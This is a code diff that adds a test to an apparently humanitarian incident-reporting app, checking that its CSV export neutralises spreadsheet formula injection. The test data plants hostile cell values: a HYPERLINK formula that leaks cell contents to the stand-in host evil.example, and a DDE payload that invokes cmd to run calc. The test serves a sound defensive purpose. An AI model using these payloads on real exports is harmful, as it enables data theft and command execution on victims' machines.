@@ -3,6 +3,8 @@ report and its identities, what reaches the events store, exports, retried submi
 
 from __future__ import annotations
 
+import csv
+import io
 import uuid
 from typing import Any
 
@@ -246,3 +248,25 @@ def test_a_public_report_without_a_place_leaves_the_country_page_working(
         assert recent[f"field:{report_id}"]["admin1"] is None
         assert recent[f"field:{report_id}"]["location"] is None
         assert clients[role].get("/countries/MLI").status_code == 200
+
+
+def test_the_export_neutralises_formulas_planted_in_a_report(
+    clients: dict[str, TestClient], post_form: Any
+) -> None:
+    planted = {
+        "location": '=HYPERLINK("http://evil.example/?"&A2,"Bambari")',
+        "perpetrator": "@SUM(1+1)*cmd|' /C calc'!A0",
+        "narrative": "-2+3 attackers came at dawn",
+        "victim_group": "+Fulani herders",
+    }
+    report_id = submit(post_form, "monitor", "public", **planted)
+    export = clients["analyst"].get("/reports/export.csv")
+    assert export.status_code == 200
+    rows = {row["id"]: row for row in csv.DictReader(io.StringIO(export.text))}
+    row = rows[report_id]
+    for column, value in planted.items():
+        if column in row:
+            assert row[column] == "'" + value, column
+    assert row["location"].startswith("'=")
+    assert row["fatalities_best"] == "4"  # numbers stay numbers
+    assert not [v for r in rows.values() for v in r.values() if v and v[0] in "=+-@\t\r"]
